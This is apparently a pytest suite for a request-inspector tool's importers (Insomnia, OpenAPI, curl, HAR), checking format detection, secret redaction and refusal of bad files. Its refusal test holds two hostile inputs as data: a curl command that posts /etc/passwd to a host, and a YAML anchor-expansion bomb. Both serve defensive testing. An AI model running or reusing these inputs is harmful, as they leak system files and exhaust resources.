"""Insomnia v4 (JSON and YAML), OpenAPI 3.0/3.1, curl and HAR imports, format detection and refusals."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from inspector.core.collections.importers import ImportError_, import_file, read_source
from inspector.core.collections.model import Folder
from inspector.core.collections.resolve import all_requests, choose_profile
from inspector.core.collections.store import load_collection
from inspector.core.profiles.store import ProfileStore
from inspector.core.request import Header

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "import"


def profiles_of(root: Path) -> dict:
    loaded, problems = ProfileStore(root / "profiles" / ".none", [root / "profiles"]).load_all()
    assert problems == []
    return {p.name: p for p in loaded}


def requests_of(root: Path) -> dict:
    collection, problems = load_collection(root)
    assert problems == []
    return {r.name: (parents, r) for parents, r in all_requests(collection)}


def all_text(root: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted(root.rglob("*")) if p.is_file())


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("postman-v21-billing.json", "postman-2.1"),
        ("postman-v20-legacy.json", "postman-2.0"),
        ("postman-environment-staging.json", "postman-environment"),
        ("insomnia-v4-orders.json", "insomnia-4"),
        ("insomnia-v4-orders.yaml", "insomnia-4"),
        ("openapi-3.0-petstore.yaml", "openapi-3.0"),
        ("openapi-3.1-notes.json", "openapi-3.1"),
        ("curl-commands.sh", "curl"),
        ("browser-recording.har", "har"),
    ],
)
def test_the_format_is_detected_from_the_content(name: str, fmt: str) -> None:
    assert read_source(FIXTURES / name).format == fmt


@pytest.mark.parametrize("name", ["insomnia-v4-orders.json", "insomnia-v4-orders.yaml"])
def test_insomnia_export(tmp_path: Path, name: str) -> None:
    into = tmp_path / "orders"
    report = import_file(FIXTURES / name, into=into).to_json()
    assert report["format"] == "insomnia-4"
    assert (report["folders"], report["requests"]) == (2, 6)
    assert report["environments"] == ["Staging", "Production"]
    collection, problems = load_collection(into)
    assert problems == []
    # the base environment becomes the collection's vars (nested data flattened), secrets as references
    assert collection.vars["base_url"] == "https://orders.example.com"
    assert collection.vars["api.version"] == "v2"
    assert collection.vars["api_token"].startswith("${secret:")
    assert collection.environment("Staging").vars["password"].startswith("${secret:")
    orders = collection.items[0]
    assert isinstance(orders, Folder) and orders.name == "Orders" and dict(orders.vars) == {"page_size": "25"}
    assert [i.name for i in orders.items] == ["List orders", "Create order", "Refunds"]
    requests = requests_of(into)
    listing = requests["List orders"][1]
    assert listing.url == "{{base_url}}/{{api.version}}/orders"  # {{ _.name }} becomes {{name}}
    assert [(p.name, p.value, p.enabled) for p in listing.params] == [
        ("page", "1", True),
        ("size", "{{page_size}}", True),
        ("debug", "1", False),
    ]
    assert Header("X-Request-Id", "{{$uuid}}") in listing.headers  # {% uuid %}
    assert "{{$isoTimestamp}}" in requests["Create order"][1].body.text  # {% now %}
    refund = requests["Refund order"][1]
    assert [(f.name, f.file, f.enabled) for f in refund.body.fields] == [
        ("order", None, True),
        ("receipt", "/tmp/receipt.pdf", True),
        ("note", None, False),
    ]
    assert json.loads(requests["Order graph"][1].body.text) == {"query": "{ orders { id } }", "variables": {}}
    profiles = profiles_of(into)
    kinds = {r.name: profiles[r.profile].kind for _, r in requests.values() if r.profile}
    assert kinds == {
        "List orders": "bearer",
        "Create order": "basic",
        "Refund order": "api-key",
        "With client credentials": "oauth2-client-credentials",
    }
    assert requests["Order graph"][1].profile == "" and requests["Chained"][1].profile == ""
    listed = {(n["item"], n["what"]) for n in report["not_imported"]}
    assert {
        ("Default Jar", "cookie jar"),
        ("Smoke", "unit test suite"),
        ("Chained", "ntlm auth"),
        ("Chained", "{% response %} template tag"),
    } <= listed
    text = all_text(into)
    for secret in ("tok_base_123", "stage-pass-1", '"pw"'):
        assert secret not in text


def test_openapi_30_yaml(tmp_path: Path) -> None:
    into = tmp_path / "pets"
    report = import_file(FIXTURES / "openapi-3.0-petstore.yaml", into=into).to_json()
    assert report["format"] == "openapi-3.0"
    collection, problems = load_collection(into)
    assert problems == []
    assert collection.vars["base_url"] == "https://eu.petstore.example.com/v1"  # server variables' defaults
    assert [e.name for e in collection.environments] == ["Production", "Staging"]
    assert [i.name for i in collection.items] == ["pets", "store", "Health", "Log in"]
    pets = collection.items[0]
    assert isinstance(pets, Folder) and pets.description == "Everything about pets"
    assert [i.name for i in pets.items] == ["List pets", "Add a pet", "Get a pet", "deletePet"]  # first tag
    requests = requests_of(into)
    listing = requests["List pets"][1]
    assert listing.url == "{{base_url}}/pets"
    assert [(p.name, p.value) for p in listing.params] == [("limit", "20"), ("status", "available")]
    assert Header("X-Trace", "") in listing.headers
    assert Header("Cookie", "session={{session}}", enabled=False) in listing.headers
    get = requests["Get a pet"][1]
    assert get.url == "{{base_url}}/pets/{{petId}}" and dict(get.vars) == {"petId": "p-1"}
    body = json.loads(
        requests["Add a pet"][1].body.text
    )  # $ref'd request body, example built from the schema
    assert body == {"name": "Rex", "tag": "string", "age": 0, "owner": {"email": "user@example.com"}}
    upload = requests["Upload a photo"][1].body
    assert upload.kind == "multipart" and [(f.name, f.file, f.value) for f in upload.fields] == [
        ("photo", "", ""),
        ("caption", None, "Rex"),
    ]
    assert [(f.name, f.value) for f in requests["Log in"][1].body.fields] == [
        ("user", "grace"),
        ("remember", "true"),
    ]
    assert requests["deletePet"][1].description.startswith("Deprecated")
    profiles = profiles_of(into)
    assert collection.profile == "Petstore: bearerAuth" and profiles["Petstore: bearerAuth"].kind == "bearer"
    assert (
        profiles[get.profile].kind == "api-key" and profiles[get.profile].credentials["name"] == "X-API-Key"
    )
    assert profiles["Petstore: apiKeyQuery"].credentials["in"] == "query"
    oauth = profiles[requests["deletePet"][1].profile]
    assert oauth.kind == "oauth2-client-credentials" and oauth.credentials["scope"] == "pets:read pets:write"
    assert profiles[requests["Log in"][1].profile].kind == "basic"
    assert profiles["Petstore: oauthCode"].kind == "bearer" and profiles["Petstore: oidc"].kind == "bearer"
    assert requests["Get an order"][1].profile == "" and requests["Health"][1].profile == ""
    listed = {(n["item"], n["what"]) for n in report["not_imported"]}
    assert ("security scheme apiKeyCookie", "apiKey in cookie") in listed
    assert ("security scheme mtls", "mutualTLS scheme") in listed
    assert ("security scheme oauthCode", "oauth2 authorizationCode flow") in listed
    assert all(
        p["token"].startswith("${secret:")
        for p in [profiles["Petstore: bearerAuth"].credentials, profiles["Petstore: oidc"].credentials]
    )


def test_openapi_31_json(tmp_path: Path) -> None:
    into = tmp_path / "notes"
    report = import_file(FIXTURES / "openapi-3.1-notes.json", into=into).to_json()
    assert report["format"] == "openapi-3.1" and report["requests"] == 3 and report["profiles"] == []
    requests = requests_of(into)
    assert [(p.name, p.value) for p in requests["listNotes"][1].params] == [("q", "groceries")]
    assert json.loads(requests["Create a note"][1].body.text) == {"title": "Milk", "done": False}
    put = requests["PUT /notes/{id}"][1]
    assert put.url == "{{base_url}}/notes/{{id}}" and "id" not in put.vars  # no example: left to fill in
    assert (put.body.kind, put.body.text, put.body.content_type) == ("text", "plain text note", "text/plain")
    assert ("webhooks", "1 webhook") in {(n["item"], n["what"]) for n in report["not_imported"]}


def test_curl_commands(tmp_path: Path) -> None:
    into = tmp_path / "curl"
    report = import_file(FIXTURES / "curl-commands.sh", into=into).to_json()
    assert report["format"] == "curl" and report["requests"] == 2
    requests = requests_of(into)
    charge = requests["POST /v1/charges"][1]
    assert charge.url == "https://api.example.com/v1/charges" and charge.params[0].name == "expand"
    assert json.loads(charge.body.text) == {"amount": 2000, "currency": "usd"}
    assert Header("Cookie", "{{cookie}}") in charge.headers
    assert not any(h.name.lower() == "authorization" for h in charge.headers)
    profiles = profiles_of(into)
    assert profiles[charge.profile].kind == "bearer"
    me = requests["GET /v1/me"][1]
    assert profiles[me.profile].credentials["username"] == "grace"
    assert ("GET /v1/me", "--insecure") in {(n["item"], n["what"]) for n in report["not_imported"]}
    text = all_text(into)
    for secret in ("sk_test_51HqLyjWDarjtT1zdp7dcXmnt", "abc123def456ghi789", "hunter2-hunter2"):
        assert secret not in text


def test_har_recording(tmp_path: Path) -> None:
    into = tmp_path / "har"
    report = import_file(FIXTURES / "browser-recording.har", into=into).to_json()
    assert report["format"] == "har" and report["requests"] == 2
    assert report["profiles"] == ["browser-recording-bearer-token.toml"]  # one token, one profile
    requests = requests_of(into)
    me = requests["GET /api/me"][1]
    assert [h.name for h in me.headers] == ["Accept"]  # :authority, Host and the credential are gone
    notes = requests["POST /api/notes"][1]
    assert notes.profile == me.profile and json.loads(notes.body.text) == {"title": "Milk"}
    text = all_text(into)
    assert "eyJhbGciOiJSUzI1NiJ9" not in text and "s3ss10n-value-123" not in text


@pytest.mark.parametrize(
    ("content", "suffix", "message"),
    [
        ('{"hello": "world"}', ".json", "not a format Request Inspector imports"),
        ('{"swagger": "2.0", "paths": {}}', ".json", "Swagger 2.0"),
        ("openapi: 3.0.0\ninfo: x\n  bad: indentation\n", ".yaml", "line 3"),
        ("{not json", ".json", "not valid JSON"),
        ("", ".txt", "not a format"),
        (
            "a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n" * 1
            + "c: ["
            + ", ".join(["*b"] * 20000)
            + "]\n",
            ".yaml",
            "anchors",
        ),
        ('{"log": {"entries": "nope"}}', ".har", "entries"),
        ("curl -d @/etc/passwd https://example.com/", ".sh", "local files"),
    ],
)
def test_bad_files_are_refused_with_a_reason_and_nothing_is_written(
    tmp_path: Path, content: str, suffix: str, message: str
) -> None:
    source = tmp_path / f"source{suffix}"
    source.write_text(content, encoding="utf-8")
    into = tmp_path / "into"
    with pytest.raises(ImportError_, match=message):
        import_file(source, into=into)
    assert not into.exists()
    assert [p.name for p in tmp_path.iterdir()] == [source.name]  # no staging folder left behind


def test_an_existing_folder_is_never_written_into(tmp_path: Path) -> None:
    into = tmp_path / "taken"
    into.mkdir()
    (into / "mine.txt").write_text("keep", encoding="utf-8")
    with pytest.raises(ImportError_, match="already exists and is not empty"):
        import_file(FIXTURES / "postman-v21-billing.json", into=into)
    assert [p.name for p in into.iterdir()] == ["mine.txt"]
    empty = tmp_path / "empty"
    empty.mkdir()
    import_file(FIXTURES / "postman-v21-billing.json", into=empty)
    assert (empty / "collection.toml").is_file()


def test_without_into_a_free_folder_in_the_collections_folder(tmp_path: Path) -> None:
    first = import_file(FIXTURES / "postman-v20-legacy.json", collections_dir=tmp_path)
    second = import_file(FIXTURES / "postman-v20-legacy.json", collections_dir=tmp_path)
    assert (Path(first.into).name, Path(second.into).name) == ("legacy-shop", "legacy-shop-2")


def test_progress_is_reported_while_writing(tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    import_file(
        FIXTURES / "postman-v21-billing.json", into=tmp_path / "b", progress=lambda d, t: seen.append((d, t))
    )
    assert seen and seen[-1][0] == seen[-1][1] and [d for d, _ in seen] == list(range(1, len(seen) + 1))


def test_a_choice_reason_for_an_imported_default(tmp_path: Path) -> None:
    into = tmp_path / "pets"
    import_file(FIXTURES / "openapi-3.0-petstore.yaml", into=into)
    collection, _ = load_collection(into)
    parents, listing = next((ps, r) for ps, r in all_requests(collection) if r.name == "List pets")
    assert choose_profile(collection, parents, listing).reason == "the collection's default"
